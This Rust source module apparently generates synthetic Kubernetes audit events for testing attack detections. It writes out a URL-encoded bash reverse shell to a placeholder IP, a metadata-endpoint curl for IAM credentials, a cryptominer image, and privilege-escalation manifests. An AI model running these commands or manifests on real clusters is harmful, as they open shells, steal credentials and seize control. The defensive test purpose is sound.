//! Requests that shipped detections find, one kind for each way to go wrong.

use super::draft::{Level, Target};
use super::events::{self, Scene};
use super::json::put;
use super::objects::{self, Danger};
use super::world::{letters, pick, uid};

const RBAC: &str = "rbac.authorization.k8s.io";

/// A kind of attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Attack {
    /// A dashboard is put before a load balancer.
    ExposedDashboard,
    /// A cluster role that may do everything.
    WildcardRole,
    /// Somebody becomes cluster-admin.
    ClusterAdminBinding,
    /// A pod mounts the node's root.
    HostPathRoot,
    /// A privileged pod.
    Privileged,
    /// A pod that sees the node's processes.
    HostPid,
    /// A pod mounts the container runtime's socket.
    RuntimeSocket,
    /// A pod that may administer the kernel.
    SysAdmin,
    /// A pod that mines.
    Miner,
    /// A reverse shell in a pod.
    ReverseShell,
    /// A pod's session asks the cloud for credentials.
    InstanceMetadata,
    /// All secrets of the cluster are listed.
    SecretsList,
    /// Somebody acts as a cluster administrator.
    ImpersonateAdmin,
    /// A webhook outside the cluster gets to see and change everything.
    Webhook,
    /// Somebody without a name gets an answer.
    AnonymousRead,
}

impl Attack {
    /// Every kind.
    pub const ALL: [Attack; 15] = [
        Attack::ExposedDashboard,
        Attack::WildcardRole,
        Attack::ClusterAdminBinding,
        Attack::HostPathRoot,
        Attack::Privileged,
        Attack::HostPid,
        Attack::RuntimeSocket,
        Attack::SysAdmin,
        Attack::Miner,
        Attack::ReverseShell,
        Attack::InstanceMetadata,
        Attack::SecretsList,
        Attack::ImpersonateAdmin,
        Attack::Webhook,
        Attack::AnonymousRead,
    ];

    /// The name used on the command line.
    pub fn as_str(self) -> &'static str {
        match self {
            Attack::ExposedDashboard => "exposed-dashboard",
            Attack::WildcardRole => "wildcard-role",
            Attack::ClusterAdminBinding => "cluster-admin-binding",
            Attack::HostPathRoot => "host-path-root",
            Attack::Privileged => "privileged",
            Attack::HostPid => "host-pid",
            Attack::RuntimeSocket => "runtime-socket",
            Attack::SysAdmin => "sys-admin",
            Attack::Miner => "miner",
            Attack::ReverseShell => "reverse-shell",
            Attack::InstanceMetadata => "instance-metadata",
            Attack::SecretsList => "secrets-list",
            Attack::ImpersonateAdmin => "impersonate-admin",
            Attack::Webhook => "webhook",
            Attack::AnonymousRead => "anonymous-read",
        }
    }

    /// The kind of that name.
    pub fn from_name(name: &str) -> Option<Attack> {
        Attack::ALL.into_iter().find(|attack| attack.as_str() == name)
    }

    /// Fills in a request of this kind.
    pub(super) fn make(self, scene: &mut Scene<'_>) {
        match self {
            Attack::ExposedDashboard => exposed_dashboard(scene),
            Attack::WildcardRole => wildcard_role(scene),
            Attack::ClusterAdminBinding => cluster_admin_binding(scene),
            Attack::HostPathRoot => pod(scene, Danger::HostPath("/")),
            Attack::Privileged => pod(scene, Danger::Privileged),
            Attack::HostPid => pod(scene, Danger::HostPid),
            Attack::RuntimeSocket => pod(scene, Danger::HostPath("/var/run/docker.sock")),
            Attack::SysAdmin => pod(scene, Danger::SysAdmin),
            Attack::Miner => pod(scene, Danger::Image("docker.io/xmrig/xmrig:6.22.2")),
            Attack::ReverseShell => shell(
                scene,
                "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.66%2F4444+0%3E%261",
            ),
            Attack::InstanceMetadata => shell(
                scene,
                "command=curl&command=-s&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F",
            ),
            Attack::SecretsList => secrets_list(scene),
            Attack::ImpersonateAdmin => impersonate_admin(scene),
            Attack::Webhook => webhook(scene),
            Attack::AnonymousRead => anonymous_read(scene),
        }
    }
}

fn exposed_dashboard(scene: &mut Scene<'_>) {
    let person = scene.person();
    let uid = uid(scene.rng);
    let draft = &mut *scene.draft;
    draft.start(person, "create", Level::RequestResponse);
    let target = Target::core("kubernetes-dashboard", "services", "kubernetes-dashboard");
    draft.target(target, "fieldManager=kubectl-create");
    let request = &mut draft.request;
    put!(request, r#"{"kind":"Service","apiVersion":"v1","metadata":{"name":"kubernetes-dashboard","namespace":"#);
    put!(
        request,
        r#""kubernetes-dashboard","uid":""#,
        uid,
        r#"","labels":{"k8s-app":"kubernetes-dashboard"}},"spec":{"#
    );
    put!(request, r#""ports":[{"protocol":"TCP","port":443,"targetPort":8443,"nodePort":31443}],"selector":{"#);
    put!(request, r#""k8s-app":"kubernetes-dashboard"},"type":"LoadBalancer"},"status":{"loadBalancer":{}}}"#);
    draft.echo();
}

fn wildcard_role(scene: &mut Scene<'_>) {
    let person = scene.person();
    let name = format!("helper-{}", letters(5, scene.rng));
    let draft = &mut *scene.draft;
    draft.start(person, "create", Level::RequestResponse);
    draft.target(Target::of(RBAC, "", "clusterroles", &name), "fieldManager=kubectl-create");
    put!(
        &mut draft.request,
        r#"{"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":""#
    );
    put!(&mut draft.request, name, r#""},"rules":[{"verbs":["*"],"apiGroups":["*"],"resources":["*"]}]}"#);
    draft.echo();
}

fn cluster_admin_binding(scene: &mut Scene<'_>) {
    let (person, friend) = (scene.person(), scene.person());
    let name = format!("temporary-{}", letters(5, scene.rng));
    let draft = &mut *scene.draft;
    draft.start(person, "create", Level::RequestResponse);
    draft.target(Target::of(RBAC, "", "clusterrolebindings", &name), "fieldManager=kubectl-create");
    let request = &mut draft.request;
    put!(
        request,
        r#"{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":""#,
        name
    );
    put!(request, r#""},"subjects":[{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":""#, friend.name);
    put!(
        request,
        r#""}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}"#
    );
    draft.echo();
}

fn pod(scene: &mut Scene<'_>, danger: Danger) {
    let person = scene.person();
    let namespace = scene.workload().namespace;
    let name = format!("debug-{}", letters(5, scene.rng));
    let uid = uid(scene.rng);
    let draft = &mut *scene.draft;
    draft.start(person, "create", Level::RequestResponse);
    draft.target(Target::core(namespace, "pods", &name), "fieldManager=kubectl-run");
    objects::bad_pod(&mut draft.request, namespace, &name, danger, None);
    objects::bad_pod(&mut draft.response, namespace, &name, danger, Some((uid, scene.at)));
}

fn shell(scene: &mut Scene<'_>, command: &str) {
    let (workload, pod, _) = scene.pod();
    let person = scene.person();
    events::session(scene.draft, person, Target::core(workload.namespace, "pods", &pod.name), command);
}

fn secrets_list(scene: &mut Scene<'_>) {
    let person = scene.person();
    scene.draft.start(person, "list", Level::Metadata);
    scene.draft.target(Target::core("", "secrets", ""), "limit=500");
}

fn impersonate_admin(scene: &mut Scene<'_>) {
    let person = scene.person();
    let resource = pick(&["pods", "namespaces", "secrets"], scene.rng);
    let draft = &mut *scene.draft;
    draft.start(person, "list", Level::Metadata);
    draft.target(Target::core("", resource, ""), "limit=500");
    put!(&mut draft.impersonated, r#"{"username":"system:admin","groups":["system:masters","system:authenticated"]}"#);
}

fn webhook(scene: &mut Scene<'_>) {
    let person = scene.person();
    let name = format!("policy-{}", letters(5, scene.rng));
    let draft = &mut *scene.draft;
    draft.start(person, "create", Level::RequestResponse);
    let target = Target::of("admissionregistration.k8s.io", "", "mutatingwebhookconfigurations", &name);
    draft.target(target, "fieldManager=kubectl-create");
    let request = &mut draft.request;
    put!(
        request,
        r#"{"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"#
    );
    put!(request, r#""name":""#, name, r#""},"webhooks":[{"name":"hook.example.net","clientConfig":{"url":"#);
    put!(request, r#""https://hook.example.net/mutate"},"rules":[{"operations":["*"],"apiGroups":["*"],"#);
    put!(
        request,
        r#""apiVersions":["*"],"resources":["*"],"scope":"*"}],"failurePolicy":"Ignore","sideEffects":"None","#
    );
    put!(request, r#""admissionReviewVersions":["v1"]}]}"#);
    draft.echo();
}

fn anonymous_read(scene: &mut Scene<'_>) {
    let resource = pick(&["pods", "configmaps", "secrets"], scene.rng);
    scene.draft.start(&scene.world.stranger, "list", Level::Metadata);
    scene.draft.target(Target::core("", resource, ""), "");
}
